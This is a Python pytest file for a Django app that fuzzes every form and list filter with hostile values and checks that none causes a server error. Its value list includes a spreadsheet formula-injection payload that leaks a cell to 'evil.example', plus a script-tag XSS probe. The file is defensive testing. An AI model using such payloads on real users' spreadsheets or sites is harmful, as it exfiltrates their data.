"""Every form of every page, and every filter of every list, sent hostile values: none may
answer with a server error. Bounded: a few values per form, on the demo organisation.

The routes come from the tenancy test's walk of the URL configuration, so a new page is fuzzed
without anyone editing this file.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.urls import reverse

from safelane.accounts.models import User
from safelane.demo.data import load_demo
from safelane.orgs.models import Organisation
from tests.test_tenancy import ORG_ROUTES, SHARED_PARAMS, Route, route_id

HOSTILE = [
    "²³",
    "x" * 3000,
    "-99999999999999999999999",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "bad\x0bvertical tab",
    "nul\x00byte",
    "9999-12-31",
    "<script>alert(1)</script>",
]
# The query parameters list pages read.
FILTERS = ["q", "page", "status", "category", "show", "year", "month", "with", "origin", "for"]
# Forms that end the session or the membership would stop the walk; they are tested elsewhere.
SKIPPED_ACTIONS = ("/accounts/logout/", "/leave/", "/i18n/setlang/")


@dataclass
class Form:
    action: str
    fields: dict[str, str] = field(default_factory=dict)
    files: list[str] = field(default_factory=list)


class Forms(HTMLParser):
    """The POST forms of a page, with each field's name and current value."""

    def __init__(self, page_url: str) -> None:
        super().__init__()
        self.page_url = page_url
        self.forms: list[Form] = []
        self.current: Form | None = None
        self.select: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "form" and a.get("method", "get").lower() == "post":
            self.current = Form(a.get("action") or self.page_url)
            self.forms.append(self.current)
        elif self.current is None or "name" not in a:
            return
        elif tag == "input" and a.get("type") == "file":
            self.current.files.append(a["name"])
        elif tag == "input" and a.get("type") in {"checkbox", "radio"}:
            if "checked" in a:
                self.current.fields[a["name"]] = a.get("value") or "on"
        elif tag in {"input", "textarea"}:
            self.current.fields.setdefault(a["name"], a.get("value", ""))
        elif tag == "select":
            self.select = a["name"]
            self.current.fields.setdefault(a["name"], "")
        elif tag == "option" and self.select and "selected" in a:
            self.current.fields[self.select] = a.get("value", "")

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self.current = None
        elif tag == "select":
            self.select = None


def address(route: Route, org: Organisation) -> str | None:
    kwargs: dict[str, Any] = {}
    for param in route.params:
        if param == "org_slug":
            kwargs[param] = org.slug
        elif param in SHARED_PARAMS:
            kwargs[param] = SHARED_PARAMS[param]
        elif param == "pk":
            obj = route.access.model.objects.for_org(org).order_by("pk").first()  # type: ignore[union-attr]
            if obj is None:
                return None
            kwargs[param] = obj.pk
    return reverse(route.name, kwargs=kwargs)


def hostile_posts(form: Form) -> list[dict[str, str]]:
    """The form as filled, then with every field but the CSRF token set to each value (the
    versions too: a form must refuse a hostile version as calmly as a hostile title)."""
    posts = [dict(form.fields)]
    for value in HOSTILE:
        posts.append(
            {
                name: original if name == "csrfmiddlewaretoken" else value
                for name, original in form.fields.items()
            }
        )
    return posts


@pytest.mark.slow
def test_no_form_or_filter_answers_a_server_error(db, client: Client):
    load_demo()
    org = Organisation.objects.get(slug="acme-imports")
    client.force_login(User.objects.get(email="olivia@acme.example"))
    failures: list[str] = []
    pages = [
        (r, url)
        for r in ORG_ROUTES
        if not r.route.startswith("api/")
        for url in [address(r, org)]
        if url
    ]
    for route, url in pages:
        page = client.get(url)
        for value in HOSTILE:
            # Every filter a list reads at once, each with the same value.
            status = client.get(url, dict.fromkeys(FILTERS, value)).status_code
            if status >= 500:
                failures.append(f"GET {url} with filters {value[:20]!r}: {status}")
        if page.status_code != 200 or "text/html" not in page.get("Content-Type", ""):
            continue
        parser = Forms(url)
        parser.feed(page.content.decode())
        for form in parser.forms:
            if form.action.endswith(SKIPPED_ACTIONS) or form.files:
                continue
            for data in hostile_posts(form):
                status = client.post(form.action, data).status_code
                if status >= 500:
                    sample = next(iter(data.values()), "")[:20]
                    failures.append(f"POST {form.action} ({route_id(route)}) {sample!r}: {status}")
    assert not failures, f"{connection.vendor}:\n" + "\n".join(failures[:40])
